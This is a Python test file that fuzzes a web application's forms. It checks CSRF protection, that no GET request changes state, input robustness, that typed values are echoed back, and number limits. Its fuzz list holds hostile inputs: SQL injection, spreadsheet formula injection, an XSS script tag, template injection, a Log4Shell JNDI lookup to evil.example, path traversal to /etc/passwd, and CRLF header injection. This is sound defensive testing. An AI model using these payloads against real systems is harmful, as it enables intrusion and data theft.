"""Every form there is: sent from elsewhere, and sent with nonsense."""

import inspect
import os
import re
import sys

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

from shell.projector import Projector
from tests.architecture.permissions_matrix import expected
from tests.architecture.test_permissions import World
from tests.security.walking import Field, Place, address, ask, come_in, fields, places, unsaid

# Before whoever is signed in is known, nothing can be forged in their name but that they come in or leave.
SENT = places("POST", api=False)
# How views read a field, by the reader of `shell.forms` or from the request itself.
READ_IN_FORMS = re.compile(r'(?:form|typed|values)\.(?:text|whole|day|decimal|get|getlist)\(\s*f?"([\w-]+)"')
NONSENSE = st.one_of(
    st.sampled_from(
        [
            "",
            " ",
            "0",
            "-1",
            "1e9",
            "NaN",
            "1e999999",
            "-1e-999999",
            "９９",
            "9" * 400,
            "0" * 5000,
            "'; DROP TABLE workers; --",
            "=cmd|'/c calc'!A1",
            "<script>alert(1)</script>",
            "{{7*7}}",
            "${jndi:ldap://evil.example}",
            "../../etc/passwd",
            "\u202e\u200bxyz",
            "a\r\nSet-Cookie: x=1",
            "2026-02-30",
            "9999-12-31",
            "0001-01-01",
            "\U0001f9e7" * 70,
            "%00",
            "é́́",
        ]
    ),
    st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
)


@pytest.fixture(scope="module")
def shown(world: World) -> list[str]:
    """Every page, as each who may see it is shown it."""
    return [
        answer.text
        for place in places("GET", api=False)
        for caller in sorted(expected()[str(place)].who)
        for answer in [ask(world, place._replace(caller=caller))]
        if answer.mimetype == "text/html"
    ]


@pytest.fixture(scope="module")
def forms(world: World, shown: list[str]) -> dict[str, dict[str, Field]]:
    """By place: the fields of its form, gathered from all pages, and those that its code reads besides."""
    gathered: dict[str, dict[str, Field]] = {}
    for place in SENT:
        found = gathered.setdefault(str(place), dict.fromkeys(read_by(world, place), Field("", False)))
        for page in shown:
            found |= fields(page, address(world, place))
    return gathered


def read_by(world: World, place: Place) -> set[str]:
    """The names of the fields that the module of a view reads, whether a page shows them now or not."""
    adapter = world.app.url_map.bind("localhost")
    endpoint, _ = adapter.match(address(world, place).partition("?")[0], method="POST")
    view = inspect.unwrap(world.app.view_functions[endpoint])
    return set(READ_IN_FORMS.findall(inspect.getsource(sys.modules[view.__module__])))


def test_every_form_is_refused_when_it_is_not_ours(world: World) -> None:
    """Posted by another site in the name of somebody signed in, without the proof: nothing happens."""
    world.app.config["WTF_CSRF_METHODS"] = {"POST", "PUT", "PATCH", "DELETE"}
    try:
        answers = {}
        for place in SENT:
            client, along = come_in(world, place)
            said = {k: v for k, v in (place.form or {}).items() if v != "{file}"}
            head = world.house.store.head()
            answer = client.post(address(world, place), data=said, **along)
            answers[str(place)] = (
                answer.status_code,
                "放久了" in answer.text,
                world.house.store.head() - head,
            )
    finally:
        world.app.config["WTF_CSRF_METHODS"] = set()
    assert len(answers) >= 20
    assert {key: said for key, said in answers.items() if said != (400, True, 0)} == {}


def test_no_form_can_be_sent_by_asking(world: World) -> None:
    """What changes something is never done by a GET that a link or a picture could trigger."""
    links = []
    for place in SENT:
        client, along = come_in(world, place)
        head = world.house.store.head()
        at = address(world, place).partition("?")[0]
        client.get(at, query_string=dict(place.form or {}), **along)
        if world.house.store.head() != head:
            links.append(str(place))
    assert links == []


BOUNDED = settings(
    max_examples=int(os.environ.get("EXAMPLES", "12")),
    derandomize=True,
    database=None,
    phases=[Phase.generate],
    suppress_health_check=list(HealthCheck),
)


@pytest.mark.parametrize("place", SENT, ids=str)
def test_no_nonsense_in_a_form_breaks_anything(
    world: World, no_proof: None, forms: dict[str, dict[str, Field]], place: Place
) -> None:
    """Whatever stands in the fields, hidden ones too: an answer, never an error of ours."""
    sound = as_served(forms, place)
    client, along = come_in(world, place)

    @BOUNDED
    @given(st.dictionaries(st.sampled_from([*sound, "unknown", "id"]), NONSENSE, min_size=1))
    def send(typed: dict[str, str]) -> None:
        answer = client.post(address(world, place), data=sound | typed, **along)
        assert answer.status_code < 500, (answer.status_code, typed)
        assert "<script>alert" not in answer.text
        if answer.status_code == 422:
            assert unsaid(answer.text) == [], typed

    send()


@pytest.mark.parametrize("place", SENT, ids=str)
def test_what_was_typed_comes_back(
    world: World, no_proof: None, forms: dict[str, dict[str, Field]], place: Place
) -> None:
    """A form that cannot be taken shows all that was written into it again, wrong or not."""
    sound = as_served(forms, place)
    written = [name for name, field in forms[str(place)].items() if field.written]
    client, along = come_in(world, place)
    if not written:
        return  # nothing is written here: it is only pressed

    @BOUNDED
    @given(st.dictionaries(st.sampled_from(written), NONSENSE, min_size=1))
    def send(typed: dict[str, str]) -> None:
        at = address(world, place)
        answer = client.post(at, data=sound | typed, **along)
        assert answer.status_code < 500, (answer.status_code, typed)
        assert "<script>alert" not in answer.text
        if answer.status_code == 422:
            shown = fields(answer.text, at, sound)
            # Where nothing was written, what stood there before may stand there again.
            told = {name: text for name, text in typed.items() if name in shown and text.strip()}
            assert {name: shown[name].value.strip() for name in told} == {
                name: text.strip() for name, text in told.items()
            }

    send()


HUGE = ("1e999999", "1e-999999", "2147483648", "9223372036854775808", "0.0000000000001")


@pytest.mark.parametrize("place", SENT, ids=str)
def test_no_number_is_too_large_or_too_small_for_a_form(
    world: World, no_proof: None, forms: dict[str, dict[str, Field]], place: Place
) -> None:
    """In every field by turns, and in all together: past what databases count to, past all decimals."""
    sound, known = as_served(forms, place), forms[str(place)]
    client, along = come_in(world, place)
    for number in HUGE:
        for names in [[name] for name in known if known[name].written]:
            answer = client.post(address(world, place), data=sound | dict.fromkeys(names, number), **along)
            assert answer.status_code < 500, (names, number)
        answer = client.post(address(world, place), data=sound | dict.fromkeys(known, number), **along)
        assert answer.status_code < 500, number


def as_served(forms: dict[str, dict[str, Field]], place: Place) -> dict[str, str]:
    """What a form would send if nothing were changed in it."""
    example = {name: str(value) for name, value in (place.form or {}).items() if value != "{file}"}
    return {name: field.value for name, field in forms[str(place)].items()} | example


def test_no_form_stops_a_read_model(world: World, no_proof: None) -> None:
    """After all of the above every read model has taken in what happened."""
    projector = Projector(world.house)
    projector.catch_up()
    assert [follower.error for follower in projector.followers if follower.error] == []


def test_a_sign_that_no_store_takes_is_refused_at_every_form(world: World, no_proof: None) -> None:
    """NUL can be neither typed nor stored: 400 before anybody looks at the form."""
    for place in SENT:
        client, along = come_in(world, place)
        answer = client.post(address(world, place), data={"name": "a\0b"}, **along)
        assert answer.status_code == 400, str(place)
